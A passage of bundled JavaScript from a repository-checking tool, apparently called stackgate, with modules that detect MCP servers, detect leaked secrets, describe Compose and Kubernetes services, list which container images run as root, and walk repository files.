    catch {
        return undefined;
    }
    const scheme = parsed.protocol.replace(/:$/, '');
    if (scheme !== 'http' && scheme !== 'https')
        return undefined;
    const port = parsed.port ? Number(parsed.port) : scheme === 'https' ? 443 : 80;
    return { scheme, host: parsed.hostname.toLowerCase().replace(/^\[|\]$/g, ''), port, path: parsed.pathname };
}
/** The transport a URL path implies: `/sse` is SSE, `/mcp` is streamable HTTP; otherwise unknown. */
function transportOfPath(path) {
    const p = path.replace(/\/+$/, '').toLowerCase();
    if (p.endsWith('/sse'))
        return 'sse';
    if (p.endsWith('/mcp'))
        return 'http';
    return undefined;
}
/** Whether an entry registers a service: its URL host reaches one of the service's deployments, or its name is the service's name without `mcp`. */
function isEntryFor(entry, service) {
    const host = entry.url ? parseEntryUrl(entry.url)?.host : undefined;
    if (host && service.deployments.some((d) => (0, list_services_1.hostReaches)(host, d)))
        return true;
    return bareName(entry.name) === bareName(service.name);
}
/** `mcp-fetch`, `fetch-mcp`, `mcp_fetch` -> `fetch`. */
function bareName(name) {
    return name.toLowerCase().replace(/^mcp[-_.]|[-_.]mcp$/g, '');
}


/***/ }),

/***/ 85455:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.defaultDetectors = exports.shannonEntropy = exports.keyNameEntropyDetector = exports.providerRulesDetector = void 0;
exports.detectSecret = detectSecret;
/** The detectors in order (provider formats, then secret-sounding keys), and the first that matches. */
const redact_1 = __webpack_require__(21340);
const index_1 = __webpack_require__(62117);
const key_name_1 = __webpack_require__(47116);
const scan_1 = __webpack_require__(13968);
/** Provider formats (the secret scanner's rules, with their checksums), whatever the key is called. */
exports.providerRulesDetector = {
    id: 'provider-rules',
    detect({ value }) {
        const [found] = (0, scan_1.scanText)('value', value, { rules: index_1.SECRET_RULES, generic: false, maxDecodeDepth: 0 });
        return found ? { ruleId: found.ruleId, description: found.description, redacted: (0, redact_1.redactSecret)(found.value) } : undefined;
    },
};
var key_name_2 = __webpack_require__(47116);
Object.defineProperty(exports, "keyNameEntropyDetector", ({ enumerable: true, get: function () { return key_name_2.keyNameEntropyDetector; } }));
Object.defineProperty(exports, "shannonEntropy", ({ enumerable: true, get: function () { return key_name_2.shannonEntropy; } }));
exports.defaultDetectors = [exports.providerRulesDetector, key_name_1.keyNameEntropyDetector];
/** The first match of the detectors, in order. */
function detectSecret(input, detectors = exports.defaultDetectors) {
    // A provider-format value with a wrong checksum is a fake: no detector reports it.
    if ((0, scan_1.isKnownFake)(input.value, index_1.SECRET_RULES))
        return undefined;
    for (const d of detectors) {
        const m = d.detect(input);
        if (m)
            return m;
    }
    return undefined;
}


/***/ }),

/***/ 18869:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.manifestEnvironment = manifestEnvironment;
exports.describeComposeService = describeComposeService;
exports.describeWorkload = describeWorkload;
/**
 * One deployed service as the readiness checks see it: a Compose service of one environment's
 * effective stack, or a Kubernetes Deployment/StatefulSet, with the names it is reached by, the
 * ports it listens on and publishes, its labels, variables and command line.
 */
const environment_1 = __webpack_require__(84557);
const merge_1 = __webpack_require__(32264);
const pod_template_index_1 = __webpack_require__(93447);
const objects_1 = __webpack_require__(35704);
const PORT_VARIABLES = new Set(['PORT', 'MCP_PORT', 'SSE_PORT', 'HTTP_PORT', 'SERVER_PORT', 'FASTMCP_PORT', 'MCP_SERVER_PORT']);
const PORT_FLAG = /^--(?:sse-|http-|mcp-|server-)?port(?:=(\d+))?$/;
/** The environment of a manifest (kubernetes/environment.ts); undefined counts as production. */
function manifestEnvironment(obj, config) {
    return { name: (0, environment_1.environmentOfManifest)(obj, config), isProduction: (0, environment_1.isProductionManifest)(obj, config) };
}
function describeComposeService(env, stack, service) {
    const v = service.value;
    const labels = stringMap(v.labels);
    const environment = stringMap(v.environment);
    const hosts = [service.name];
    for (const key of ['container_name', 'hostname'])
        if (typeof v[key] === 'string' && v[key])
            hosts.push(v[key]);
    const networks = [];
    const topNetworks = stack.node.entries.get('networks');
    const nameNode = stack.node.entries.get('name');
    const project = nameNode?.kind === 'scalar' && typeof nameNode.value === 'string' && nameNode.value ? nameNode.value : stack.name;
    const networkName = (key) => {
        const def = topNetworks?.kind === 'map' ? topNetworks.entries.get(key) : undefined;
        const named = def?.kind === 'map' ? def.entries.get('name') : undefined;
        return named?.kind === 'scalar' && typeof named.value === 'string' ? named.value : `${project}_${key}`;
    };
    if (v.network_mode === 'host')
        networks.push('host');
    else if (typeof v.network_mode === 'string' && v.network_mode.startsWith('service:'))
        networks.push(`service:${v.network_mode.slice(8)}`);
    else if (Array.isArray(v.networks))
        v.networks.forEach((n) => typeof n === 'string' && networks.push(networkName(n)));
    else if (v.networks && typeof v.networks === 'object') {
        for (const [key, def] of Object.entries(v.networks)) {
            networks.push(networkName(key));
            const aliases = def && typeof def === 'object' ? def.aliases : undefined;
            if (Array.isArray(aliases))
                aliases.forEach((a) => typeof a === 'string' && hosts.push(a));
        }
    }
    if (!networks.length && v.network_mode === undefined)
        networks.push(networkName('default'));
    const publishedPorts = publishedPortsOf(service.node.entries.get('ports'));
    const containerPorts = new Set(publishedPorts.map((p) => p.target));
    if (Array.isArray(v.expose))
        v.expose.forEach((e) => addPort(containerPorts, String(e)));
    for (const key of ['com.mcp.port', 'mcp.port'])
        addPort(containerPorts, labels[key]);
    for (const [key, val] of Object.entries(environment))
        if (PORT_VARIABLES.has(key))
            addPort(containerPorts, val);
    const args = Array.isArray(v.command) ? v.command.map(String) : typeof v.command === 'string' ? v.command.split(/\s+/) : [];
    portFlags(args).forEach((p) => containerPorts.add(p));
    return {
        platform: 'compose',
        name: service.name,
        environment: env.name,
        isProduction: env.isProduction,
        stack: stack.name,
        service,
        value: v,
        node: service.node,
        loc: service.loc,
        images: typeof v.image === 'string' && v.image ? [v.image] : [],
        hosts: unique(hosts),
        networks: unique(networks),
        containerPorts: [...containerPorts].sort((a, b) => a - b),
        servicePorts: [],
        publishedPorts,
        labels,
        variables: environment,
        args,
    };
}
function describeWorkload(env, obj, all) {
    const podLabels = (0, objects_1.podLabelsOf)(obj);
    const tpl = (0, objects_1.podTemplatePath)(obj);
    const annotations = tpl ? (0, objects_1.asStringMap)(plainAt(obj.value, [...tpl, 'metadata', 'annotations'])) : {};
    const containers = (0, objects_1.containersOf)(obj).filter((c) => c.kind === 'container');
    const containerPorts = new Set();
    const images = [];
    const variables = {};
    const args = [];
    for (const c of containers) {
        if (typeof c.value.image === 'string')
            images.push(c.value.image);
        if (Array.isArray(c.value.ports))
            for (const p of c.value.ports)
                if (p && typeof p.containerPort === 'number')
                    containerPorts.add(p.containerPort);
        if (Array.isArray(c.value.env))
            for (const e of c.value.env)
                if (e && typeof e.name === 'string' && (typeof e.value === 'string' || typeof e.value === 'number'))
                    variables[e.name] = String(e.value);
        for (const list of [c.value.command, c.value.args])
            if (Array.isArray(list))
                args.push(...list.map(String));
    }
    for (const [key, val] of Object.entries(variables))
        if (PORT_VARIABLES.has(key))
            addPort(containerPorts, val);
    portFlags(args).forEach((p) => containerPorts.add(p));
    // Pods are reached through the Services that select them, not by the workload's name.
    const hosts = [];
    const servicePorts = new Set();
    for (const svc of (0, pod_template_index_1.servicesSelecting)(obj, podLabels, all)) {
        hosts.push(svc.name);
        if (Array.isArray(svc.value.spec?.ports))
            for (const p of svc.value.spec.ports)
                if (p && typeof p.port === 'number')
                    servicePorts.add(p.port);
    }
    if (typeof obj.value.spec?.serviceName === 'string')
        hosts.push(obj.value.spec.serviceName);
    return {
        platform: 'kubernetes',
        name: obj.name,
        environment: env.name,
        isProduction: env.isProduction,
        object: obj,
        value: obj.value,
        node: obj.root,
        loc: metadataNameLoc(obj) ?? obj.loc,
        images,
        hosts: unique(hosts),
        networks: [obj.namespace ?? '(default namespace)'],
        containerPorts: [...containerPorts].sort((a, b) => a - b),
        servicePorts: [...servicePorts].sort((a, b) => a - b),
        publishedPorts: [],
        labels: { ...podLabels, ...annotations },
        variables,
        args,
    };
}
function metadataNameLoc(obj) {
    const meta = obj.root.entries.get('metadata');
    const name = meta?.kind === 'map' ? meta.entries.get('name') : undefined;
    return name?.keyLoc ?? name?.loc;
}
function publishedPortsOf(node) {
    if (node?.kind !== 'seq')
        return [];
    const out = [];
    for (const item of node.items) {
        let spec;
        if (item.kind === 'scalar' && item.value !== null)
            spec = (0, merge_1.parsePortSpec)(String(item.value));
        else if (item.kind === 'map') {
            const text = (k) => {
                const n = item.entries.get(k);
                return n?.kind === 'scalar' && n.value !== null ? String(n.value) : '';
            };
            spec = { hostIp: text('host_ip'), published: text('published'), target: text('target'), protocol: text('protocol') || 'tcp' };
        }
        const target = spec ? firstPort(spec.target) : undefined;
        if (!spec || target === undefined)
            continue;
        out.push({
            hostIp: spec.hostIp,
            published: firstPort(spec.published),
            target,
            protocol: (spec.protocol || 'tcp').toLowerCase(),
            loc: item.keyLoc ?? item.loc,
        });
    }
    return out;
}
function firstPort(text) {
    const m = /^(\d+)(?:-\d+)?$/.exec(text.trim());
    const n = m ? Number(m[1]) : NaN;
    return n > 0 && n < 65536 ? n : undefined;
}
function addPort(set, text) {
    if (typeof text !== 'string' && typeof text !== 'number')
        return;
    const p = firstPort(String(text).replace(/\/\w+$/, ''));
    if (p !== undefined)
        set.add(p);
}
/** `--port 8501`, `--port=8501`, `--sse-port=8505` in a command or args list. */
function portFlags(args) {
    const out = [];
    args.forEach((arg, i) => {
        const m = PORT_FLAG.exec(arg);
        if (!m)
            return;
        const p = firstPort(m[1] ?? args[i + 1] ?? '');
        if (p !== undefined)
            out.push(p);
    });
    return out;
}
/** Compose labels/environment (map or KEY=VALUE list) as strings; entries without a value are left out. */
function stringMap(v) {
    const out = {};
    if (Array.isArray(v)) {
        for (const item of v) {
            if (typeof item !== 'string')
                continue;
            const at = item.indexOf('=');
            if (at > 0)
                out[item.slice(0, at)] = item.slice(at + 1);
        }
    }
    else if (v && typeof v === 'object') {
        for (const [k, val] of Object.entries(v))
            if (val !== null && val !== undefined && typeof val !== 'object')
                out[k] = String(val);
    }
    return out;
}
function plainAt(value, path) {
    let cur = value;
    for (const seg of path) {
        if (!cur || typeof cur !== 'object')
            return undefined;
        cur = cur[seg];
    }
    return cur;
}
function unique(items) {
    return [...new Set(items)];
}


/***/ }),

/***/ 8816:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.defaultImageUser = defaultImageUser;
/**
 * Who an image runs as when nothing sets a user (Compose `user:`, a Dockerfile USER of its own):
 * known non-root (official images whose entrypoint steps down to their own user, images with a
 * non-root USER), known root (official base, language and web-server images, common tools, scratch
 * and distroless without their nonroot tag), or unknown: the user is in the image, which stackgate
 * does not pull. Repositories as imageRepository gives them (registry host and `library/` dropped).
 */
const image_reference_1 = __webpack_require__(78605);
const list_services_1 = __webpack_require__(63251);
/**
 * Images that do not run their server as root: official images whose entrypoint steps down to their
 * own user before starting it (gosu, su-exec), and images whose Dockerfile sets a non-root USER. A
 * `command:` that replaces the server may keep root; that is left to review.
 */
const NOT_ROOT_BY_DEFAULT = new Set([
    // The entrypoint steps down to the service's user.
    'postgres',
    'redis',
    'mysql',
    'mariadb',
    'mongo',
    'rabbitmq',
    'cassandra',
    'zookeeper',
    'couchdb',
    'neo4j',
    'valkey/valkey',
    'postgis/postgis',
    'pgvector/pgvector',
    'timescale/timescaledb',
    'clickhouse/clickhouse-server',
    'hashicorp/vault',
    'hashicorp/consul',
    // A non-root USER in the image.
    'memcached',
    'elasticsearch',
    'elasticsearch/elasticsearch',
    'grafana/grafana',
    'grafana/grafana-oss',
    'prom/prometheus',
    'prom/alertmanager',
    'prom/node-exporter',
    'prom/pushgateway',
    'prom/blackbox-exporter',
    'prometheus/prometheus',
    'prometheus/alertmanager',
    'prometheus/node-exporter',
    'otel/opentelemetry-collector',
    'otel/opentelemetry-collector-contrib',
    'n8nio/n8n',
    'nginxinc/nginx-unprivileged',
    'haproxy',
    'curlimages/curl',
    'apache/tika',
    'keycloak/keycloak',
    'grafana/loki',
    'grafana/tempo',
    'jaegertracing/all-in-one',
    'kibana/kibana',
    'logstash/logstash',
    'sonatype/nexus3',
    'jenkins/jenkins',
    'nodered/node-red',
    'sonarqube',
    'confluentinc/cp-kafka',
    'confluentinc/cp-zookeeper',
]);
/**
 * Images known to run as root when no `user:` is set: official base, language and server images
 * without a USER (nginx and httpd masters, node, python, ...), and common tools that run as root.
 */
const ROOT_BY_DEFAULT = new Set([
    'nginx',
    'httpd',
    'node',
    'python',
    'golang',
    'ruby',
    'php',
    'openjdk',
    'eclipse-temurin',
    'amazoncorretto',
    'tomcat',
    'ubuntu',
    'debian',
    'alpine',
    'busybox',
    'centos',
    'fedora',
    'rockylinux',
    'almalinux',
    'amazonlinux',
    'traefik',
    'caddy',
    'docker',
    'registry',
    'wordpress',
    'nextcloud',
    'minio/minio',
    'qdrant/qdrant',
    'ollama/ollama',
    'portainer/portainer-ce',
    'portainer/agent',
    'nginxproxy/nginx-proxy',
    'nginxproxy/acme-companion',
    'jwilder/nginx-proxy',
    'containrrr/watchtower',
    'cadvisor/cadvisor',
    'grafana/promtail',
    'microsoft/playwright',
    'playwright',
    'maven',
    'gradle',
    'rust',
    'buildpack-deps',
    'elixir',
    'erlang',
    'perl',
    'oraclelinux',
    'archlinux',
    'opensuse/leap',
    'ubi8/ubi',
    'ubi8/ubi-minimal',
    'ubi9/ubi',
    'ubi9/ubi-minimal',
    'dotnet/aspnet',
    'dotnet/runtime',
    'dotnet/runtime-deps',
    'dotnet/sdk',
]);
/** Who the image runs as when nothing sets a user. */
function defaultImageUser(image) {
    const written = image.trim();
    if (!written || written.includes('$'))
        return 'unknown';
    if (written.toLowerCase() === 'scratch')
        return 'root';
    const repository = (0, list_services_1.imageRepository)(written);
    const tag = (0, image_reference_1.parseImageReference)(written).tag ?? '';
    if (repository.startsWith('distroless/'))
        return /^(?:debug-)?nonroot\b/.test(tag) ? 'non-root' : 'root';
    if (repository.startsWith('chainguard/'))
        return /dev/.test(tag) ? 'unknown' : 'non-root';
    if (NOT_ROOT_BY_DEFAULT.has(repository) || repository.startsWith('bitnami/'))
        return 'non-root';
    if (ROOT_BY_DEFAULT.has(repository))
        return 'root';
    return 'unknown';
}


/***/ }),

/***/ 63251:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.manifestEnvironment = void 0;
exports.hasMcpWord = hasMcpWord;
exports.imageRepository = imageRepository;
exports.listServices = listServices;
exports.findMcpServices = findMcpServices;
exports.deploysMcpServers = deploysMcpServers;
exports.looksLikeMcpServer = looksLikeMcpServer;
exports.hostReaches = hostReaches;
exports.servicesByName = servicesByName;
exports.distinctServices = distinctServices;
const image_reference_1 = __webpack_require__(78605);
const describe_service_1 = __webpack_require__(18869);
/** A deployed service is described in describe-service.ts; checks import it from here, with the lists. */
var describe_service_2 = __webpack_require__(18869);
Object.defineProperty(exports, "manifestEnvironment", ({ enumerable: true, get: function () { return describe_service_2.manifestEnvironment; } }));
const WORKLOAD_KINDS = new Set(['Deployment', 'StatefulSet']);
/** Images of databases and infrastructure: a service running one is not an MCP server, whatever its name. */
const INFRASTRUCTURE_IMAGES = new Set([
    'postgres',
    'postgis',
    'timescaledb',
    'timescaledb-ha',
    'mysql',
    'mariadb',
    'mongo',
    'mongodb',
    'redis',
    'valkey',
    'memcached',
    'clickhouse-server',
    'elasticsearch',
    'opensearch',
    'qdrant',
    'chroma',
    'weaviate',
    'milvus',
    'neo4j',
    'rabbitmq',
    'nats',
    'kafka',
    'zookeeper',
    'minio',
    'etcd',
    'prometheus',
    'alertmanager',
    'grafana',
    'loki',
    'promtail',
    'alloy',
    'tempo',
    'cadvisor',
    'node-exporter',
    'nginx',
    'traefik',
    'caddy',
    'haproxy',
    'envoy',
    'pgbouncer',
    'litellm',
]);
/** Name parts of helpers next to an MCP server that are not servers themselves. */
const HELPER_PARTS = new Set(['db', 'database', 'migrate', 'migration', 'migrations', 'inspector', 'backup', 'exporter', 'init', 'setup']);
function hasMcpWord(text) {
    return text
        .toLowerCase()
        .split(/[^a-z0-9]+/)
        .includes('mcp');
}
/** The repository part of an image (`ghcr.io/acme/mcp-fetch:1.0` -> `acme/mcp-fetch`), lower case. */
function imageRepository(image) {
    const { name } = (0, image_reference_1.parseImageReference)(image);
    const parts = name.toLowerCase().split('/');
    if (parts.length > 1 && (/[.:]/.test(parts[0]) || parts[0] === 'localhost'))
        parts.shift();
    if (parts[0] === 'library' && parts.length === 2)
        parts.shift();
    return parts.join('/');
}
/** The last list per Compose project: a run's checks all ask for the same sources. */
const listed = new WeakMap();
/** Every Compose service of every environment and every Deployment/StatefulSet (computed once per run's sources). */
function listServices(sources) {
    const cached = listed.get(sources.compose);
    if (cached && cached.sources.config === sources.config && cached.sources.kubernetes === sources.kubernetes)
        return cached.services;
    const services = describeServices(sources);
    listed.set(sources.compose, { sources: { config: sources.config, compose: sources.compose, kubernetes: sources.kubernetes }, services });
    return services;
}
function describeServices(sources) {
    const out = [];
    const environments = sources.compose.environments;
    for (const env of environments) {
        for (const stack of sources.compose.effective.get(env.name) ?? []) {
            for (const service of stack.services)
                out.push((0, describe_service_1.describeComposeService)(env, stack, service));
        }
    }
    for (const obj of sources.kubernetes) {
        if (WORKLOAD_KINDS.has(obj.kind))
            out.push((0, describe_service_1.describeWorkload)((0, describe_service_1.manifestEnvironment)(obj, sources.config), obj, sources.kubernetes));
    }
    return out;
}
/** The MCP servers among the deployed services (one entry per environment for Compose). */
function findMcpServices(sources) {
    const configured = sources.config.mcp.services;
    return listServices(sources).filter((s) => (configured ? configured.includes(s.name) || s.hosts.some((h) => configured.includes(h)) : looksLikeMcpServer(s)));
}
/** Whether the repository deploys MCP servers: stackgate.yml lists some in `mcp.services`, or some are detected. */
function deploysMcpServers(sources) {
    return !!sources.config.mcp.services?.length || findMcpServices(sources).length > 0;
}
function looksLikeMcpServer(s) {
    const repositories = s.images.map(imageRepository);
    if (repositories.some((r) => hasMcpWord(r)))
        return true;
    const named = [s.name, ...s.hosts].some(hasMcpWord);
    if (!named)
        return false;
    if (repositories.length && repositories.every((r) => INFRASTRUCTURE_IMAGES.has(r.split('/').pop())))
        return false;
    return !s.name
        .toLowerCase()
        .split(/[^a-z0-9]+/)
        .some((p) => HELPER_PARTS.has(p));
}
/**
 * Whether a host name reaches the service: one of its names, or for a Kubernetes workload the
 * cluster DNS name of a Service selecting it (`name.namespace`, `name.namespace.svc[.cluster.local]`).
 */
function hostReaches(host, service) {
    const h = host.toLowerCase();
    const hosts = service.hosts.map((x) => x.toLowerCase());
    if (hosts.includes(h))
        return true;
    const [first, namespace, ...rest] = h.split('.');
    return service.platform === 'kubernetes' && !!namespace && (rest.length === 0 || rest[0] === 'svc') && hosts.includes(first);
}
/** The services by name, with the host names of all their deployments (a prod container_name counts too). */
function servicesByName(services) {
    const byName = new Map();
    for (const s of services)
        byName.set(s.name, [...(byName.get(s.name) ?? []), s]);
    return distinctServices(services, 'name').map((first) => {
        const deployments = byName.get(first.name);
        return { first, deployments, hosts: [...new Set([first.name, ...deployments.flatMap((d) => d.hosts)])] };
    });
}
/**
 * One entry per service: `name` keeps the first of each name (Compose before Kubernetes, in
 * environment order); `deployment` keeps one per platform, stack and name.
 */
function distinctServices(services, by) {
    const seen = new Set();
    const ordered = [...services.filter((s) => s.platform === 'compose'), ...services.filter((s) => s.platform === 'kubernetes')];
    return ordered.filter((s) => {
        const key = by === 'name' ? s.name : `${s.platform}|${s.stack ?? s.object?.namespace ?? ''}|${s.name}|${s.loc.file}`;
        if (seen.has(key))
            return false;
        seen.add(key);
        return true;
    });
}


/***/ }),

/***/ 84147:
/***/ ((__unused_webpack_module, exports) => {


/**
 * A repository file's bytes as text, the one way every reader decodes them (discovery, the workspace,
 * the secret scanner's tree, diff, history and staged sources): a UTF-16 file with a byte-order mark
 * (little or big endian, as Windows editors and PowerShell write .env and config files) is decoded,
 * a UTF-8 byte-order mark is dropped, and otherwise a NUL byte in the first 8 KB means binary.
 */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.BINARY_SNIFF_BYTES = void 0;
exports.decodeText = decodeText;
/** How far into a file the binary test looks (git's own heuristic looks as far). */
exports.BINARY_SNIFF_BYTES = 8000;
/** The text of a file's bytes, or undefined when they are binary. */
function decodeText(bytes) {
    const buf = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
    if (buf[0] === 0xff && buf[1] === 0xfe)
        return buf.toString('utf16le', 2, evenEnd(buf));
    if (buf[0] === 0xfe && buf[1] === 0xff)
        return Buffer.from(buf.subarray(2, evenEnd(buf)))
            .swap16()
            .toString('utf16le');
    const hasUtf8Bom = buf[0] === 0xef && buf[1] === 0xbb && buf[2] === 0xbf;
    if (buf.subarray(0, exports.BINARY_SNIFF_BYTES).includes(0))
        return undefined;
    return buf.toString('utf8', hasUtf8Bom ? 3 : 0);
}
/** UTF-16 has two bytes per code unit: a trailing odd byte (a truncated file) is dropped. */
function evenEnd(buf) {
    return buf.length - ((buf.length - 2) % 2);
}


/***/ }),

/***/ 23866:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.DEFAULT_MAX_FILE_BYTES = void 0;
exports.isVendoredDependencies = isVendoredDependencies;
exports.isCandidateName = isCandidateName;
exports.discoverFiles = discoverFiles;
exports.isIgnored = isIgnored;
exports.isDirectoryIgnored = isDirectoryIgnored;
/**
 * Walks a repository for files stackgate may read: honours .gitignore (root and nested) and
 * include/exclude globs, never follows a symlink out of the repository (nor into a directory it walks anyway), skips binary files and
 * caps file size. Text is decoded by decodeText (UTF-8, or UTF-16 with a byte-order mark). Problems become findings, never crashes.
 */
const node_fs_1 = __importDefault(__webpack_require__(73024));
const node_path_1 = __importDefault(__webpack_require__(76760));
const ignore_1 = __importDefault(__webpack_require__(70298));
const picomatch_1 = __importDefault(__webpack_require__(14006));
const decode_text_1 = __webpack_require__(84147);
const regular_file_1 = __webpack_require__(99944);
/**
 * A `vendor/` directory that a package manager filled with dependencies: Go modules (`go mod vendor`
 * writes `vendor/modules.txt`) or Composer (`vendor/autoload.php`).
 */
function isVendoredDependencies(name, absDir) {
    return name === 'vendor' && (node_fs_1.default.existsSync(node_path_1.default.join(absDir, 'modules.txt')) || node_fs_1.default.existsSync(node_path_1.default.join(absDir, 'autoload.php')));
}
const ALWAYS_SKIPPED_DIRS = new Set(['.git', 'node_modules', '.hg', '.svn']);
exports.DEFAULT_MAX_FILE_BYTES = 1024 * 1024;
/** File names stackgate can recognise; everything else is never read. */
function isCandidateName(name) {
    const lower = name.toLowerCase();
    return (/\.(ya?ml|json)$/.test(lower) ||
        lower.startsWith('dockerfile') ||
        lower.endsWith('.dockerfile') ||
        lower.startsWith('containerfile') ||
        lower === '.env' ||
        lower.endsWith('.env'));
}
function discoverFiles(options) {
    const root = node_fs_1.default.realpathSync(node_path_1.default.resolve(options.root));
    const maxBytes = options.maxFileBytes ?? exports.DEFAULT_MAX_FILE_BYTES;
    const includes = options.include?.length ? (0, picomatch_1.default)(options.include, { dot: true }) : () => true;
    const excludes = options.exclude?.length ? (0, picomatch_1.default)(options.exclude, { dot: true }) : () => false;
    const files = [];
    const problems = [];
    const paths = [];
    const seenDirs = new Set();
    const acceptName = options.acceptName ?? isCandidateName;
    const walk = (absDir, relDir, rules) => {
        const real = safeRealpath(absDir);
        if (!real || seenDirs.has(real))
            return;
        seenDirs.add(real);
        let entries;
        try {
            entries = node_fs_1.default.readdirSync(absDir, { withFileTypes: true });
        }
        catch (e) {
            problems.push({
                path: relDir || '.',
                code: 'unreadable',
                message: `cannot read directory: ${e.code ?? e.message}`,
            });
            return;
        }
        const gitignore = entries.find((e) => e.name === '.gitignore' && e.isFile());
        const scoped = gitignore ? [...rules, { base: relDir, ig: readIgnore(node_path_1.default.join(absDir, '.gitignore')) }] : rules;
        entries.sort((a, b) => (a.name < b.name ? -1 : a.name > b.name ? 1 : 0));
        for (const entry of entries) {
            const rel = relDir ? `${relDir}/${entry.name}` : entry.name;
            const abs = node_path_1.default.join(absDir, entry.name);
            let isDir = entry.isDirectory();
            let isFile = entry.isFile();
            if (entry.isSymbolicLink()) {
                const target = safeRealpath(abs);
                if (!target || !(0, regular_file_1.isInside)(root, target)) {
                    problems.push({ path: rel, code: 'symlink-outside', message: 'symbolic link points outside the repository; not followed' });
                    continue;
                }
                const st = safeStat(target);
                // A linked directory inside the repository is walked under its real path, not twice.
                if (st?.isDirectory())
                    continue;
                isDir = false;
                isFile = !!st?.isFile();
            }
            if (isDir) {
                if (ALWAYS_SKIPPED_DIRS.has(entry.name) || isIgnored(scoped, rel, true))
                    continue;
                if (options.skipVendoredDependencies && isVendoredDependencies(entry.name, abs))
                    continue;
                walk(abs, rel, scoped);
                continue;
            }
            if (!isFile || isIgnored(scoped, rel, false))
                continue;
            paths.push(rel);
            if (!acceptName(entry.name) || !includes(rel) || excludes(rel))
                continue;
            const st = safeStat(abs);
            if (!st) {
                problems.push({ path: rel, code: 'unreadable', message: 'cannot stat file' });
                continue;
            }
            if (st.size > maxBytes) {
                problems.push({ path: rel, code: 'too-large', message: `file is ${st.size} bytes, over the ${maxBytes}-byte limit; not validated` });
                continue;
            }
            let buf;
            try {
                buf = node_fs_1.default.readFileSync(abs);
            }
            catch (e) {
                problems.push({ path: rel, code: 'unreadable', message: `cannot read file: ${e.code ?? e.message}` });
                continue;
            }
            const text = (0, decode_text_1.decodeText)(buf);
            if (text === undefined) {
                problems.push({ path: rel, code: 'binary', message: 'binary file skipped' });
                continue;
            }
            files.push({ path: rel, absPath: abs, text });
        }
    };
    walk(root, '', []);
    return { files, problems, paths };
}
function readIgnore(file) {
    const ig = (0, ignore_1.default)();
    try {
        ig.add(node_fs_1.default.readFileSync(file, 'utf8'));
    }
    catch {
        // An unreadable .gitignore ignores nothing; the walk itself reports unreadable paths.
    }
    return ig;
}
/** Whether any .gitignore's rules ignore a repository-relative path, as git reads them. */
function isIgnored(rules, rel, isDir) {
    for (const { base, ig } of rules) {
        const sub = base ? (rel.startsWith(`${base}/`) ? rel.slice(base.length + 1) : null) : rel;
        if (sub && ig.ignores(isDir ? `${sub}/` : sub))
            return true;
    }
    return false;
}
/**
 * Whether git would ignore the directory `rel` (relative to `root`, `/`-separated): the .gitignore
 * files of root and of each directory on the way are read, and a directory under an ignored one is
 * ignored too, as git reads them.
 */
function isDirectoryIgnored(root, rel) {
    const segments = rel.split('/').filter(Boolean);
    const rules = [];
    for (let i = 0; i < segments.length; i++) {
        const parent = segments.slice(0, i).join('/');
        const gitignore = node_path_1.default.join(root, parent, '.gitignore');
        if (node_fs_1.default.existsSync(gitignore))
            rules.push({ base: parent, ig: readIgnore(gitignore) });
        if (isIgnored(rules, segments.slice(0, i + 1).join('/'), true))
            return true;
    }
    return false;
}
function safeRealpath(p) {
    try {
        return node_fs_1.default.realpathSync(p);
    }
    catch {
        return undefined;
    }
}
function safeStat(p) {
    try {
        return node_fs_1.default.statSync(p);
    }
    catch {
        return undefined;
    }
}


/***/ }),

/***/ 52483:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.findHelmCharts = findHelmCharts;
exports.helmChartOfTemplate = helmChartOfTemplate;
exports.isAnsibleRoleTemplate = isAnsibleRoleTemplate;
exports.isKustomizationFile = isKustomizationFile;
exports.findKustomizePatches = findKustomizePatches;
exports.findKustomizeRoots = findKustomizeRoots;
exports.isFileReference = isFileReference;
exports.resolveKustomizeReference = resolveKustomizeReference;
/**
 * Repository layouts whose files are not manifests as written: Helm charts (a directory with
 * `Chart.yaml`; everything under its `templates/` is a Go template, never YAML), Ansible role
 * templates (`roles/<role>/templates/`, Jinja2) and Kustomize
 * patches (files a kustomization.yaml names under `patches`, `patchesStrategicMerge` or
 * `patchesJson6902`: fragments merged into a resource, not objects of their own).
 */
const node_path_1 = __importDefault(__webpack_require__(76760));
const yaml_tree_1 = __webpack_require__(43183);
const KUSTOMIZATION_NAME = /^kustomization\.ya?ml$/i;
/** The chart directories among the repository's paths: every directory holding a Chart.yaml. */
function findHelmCharts(paths) {
    const dirs = paths.filter((p) => node_path_1.default.posix.basename(p) === 'Chart.yaml').map((p) => dirOf(p));
    const charts = dirs.map((dir) => {
        const prefix = dir ? `${dir}/templates/` : 'templates/';
        return {
            dir,
            chartFile: dir ? `${dir}/Chart.yaml` : 'Chart.yaml',
            templates: paths.filter((p) => p.startsWith(prefix)).sort(),
            isSubchart: dirs.some((other) => other !== dir && dir.startsWith(other ? `${other}/charts/` : 'charts/')),
        };
    });
    return charts.sort((a, b) => (a.dir < b.dir ? -1 : a.dir > b.dir ? 1 : 0));
}
/** The chart whose `templates/` holds a file, if any. */
function helmChartOfTemplate(charts, file) {
    return charts.find((c) => file.startsWith(c.dir ? `${c.dir}/templates/` : 'templates/'));
}
/**
 * Whether a file is an Ansible role's template (`roles/<role>/templates/…`): Jinja2 text that the
 * template module renders on the target host (`{% for %}`, `{{ var }}`), not YAML as written.
 */
function isAnsibleRoleTemplate(file) {
    return /(^|\/)roles\/[^/]+\/templates\//.test(file);
}
/** Whether a file name is a kustomization file. */
function isKustomizationFile(file) {
    return KUSTOMIZATION_NAME.test(node_path_1.default.posix.basename(file));
}
/**
 * The patch files named by the given kustomization files (path and text), resolved against each
